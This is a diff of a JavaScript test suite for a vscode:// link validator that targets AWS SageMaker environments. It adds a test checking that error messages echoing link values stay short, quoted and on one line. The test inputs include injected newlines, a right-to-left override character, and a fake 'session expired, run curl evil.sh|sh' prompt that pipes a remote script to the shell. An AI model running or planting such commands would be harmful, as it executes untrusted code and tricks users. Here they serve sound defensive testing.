@@ -73,13 +73,38 @@ describe('links: vscode:// links to an environment', () => {
     assert.match(problem('kind=space&region=us-east-1&domain=d-abc123&profile=alice&space=-bad-'), /"space" "-bad-" is not a valid SpaceName/);
     assert.match(problem(`kind=notebook&region=us-east-1&name=${'n'.repeat(64)}`), /64 characters long; a NotebookInstanceName has 1 to 63/);
     assert.match(problem('kind=notebook&region=us-east-1&name=nb&space=x'), /a notebook instance link has no "space"/);
-    assert.match(problem('kind=notebook&region=us-east-1&name=nb&url=https://evil'), /unknown parameter "url"/);
+    assert.match(problem('kind=notebook&region=us-east-1&name=nb&url=https://evil'), /^it has a parameter other than kind, region and domain, profile, space, name, arn\.$/);
     assert.match(problem('kind=notebook&region=us-east-1&name=nb&name=other'), /"name" more than once/);
     assert.match(problem('kind=partnerApp&region=us-east-1&arn=arn:aws:sagemaker:us-east-1:123456789012:partner-app/app-short'), /not a valid PartnerAppArn/);
     assert.match(
       problem('kind=mlflowApp&region=eu-west-1&arn=arn:aws:sagemaker:us-east-1:123456789012:mlflow-app/app-1'),
       /arn is in region "us-east-1" but the link says region eu-west-1/,
     );
+  });
+
+  it('echoes a link\'s values short, quoted and on one line, and never an unknown key', () => {
+    const hostile = [
+      `kind=notebook&name=nb&region=${'u'.repeat(200_000)}`,
+      'kind=notebook&name=nb&region=us-east-1.%0A%0AYour%20AWS%20session%20has%20expired.%20Run%20curl%20evil.sh%7Csh',
+      'kind=notebook%0A%0ARun%20curl%20evil.sh%7Csh&region=us-east-1',
+      'kind=studio&region=us-east-1&profile=alice&domain=d-abc%E2%80%AEhs.live%0Dtrust',
+      `kind=space&region=us-east-1&domain=d-abc123&profile=alice&space=${'s'.repeat(100_000)}`,
+      'kind=mlflowApp&region=us-east-1&arn=arn:aws:sagemaker:eu-west-1%0ARun%20this:123456789012:mlflow-app/x',
+      `kind=notebook&region=us-east-1&name=nb&${'k'.repeat(50_000)}%0Acurl%20evil.sh=1`,
+    ];
+    for (const query of hostile) {
+      const p = problem(query);
+      assert.ok(p.length <= 300, `${p.length} characters: ${p.slice(0, 120)}`);
+      assert.doesNotMatch(p, /[\r\n\u2028\u2029\u202e]/, p);
+      assert.doesNotMatch(p, /kkkk/, p);
+    }
+    assert.equal(
+      problem(hostile[1]),
+      'its region is not valid: "us-east-1.\\n\\nYour AWS session has expir…" (61 characters) is not an AWS region name; expected a name such as us-east-1 or eu-west-2.',
+    );
+    const wrongPath = parseLink(`/${'p'.repeat(10_000)}\nx`, 'kind=studio');
+    assert.ok(!wrongPath.ok);
+    assert.ok(wrongPath.problem.length <= 200 && !wrongPath.problem.includes('\n'), wrongPath.problem.slice(0, 100));
   });
 
   it('describes each kind in words for the confirmation', () => {
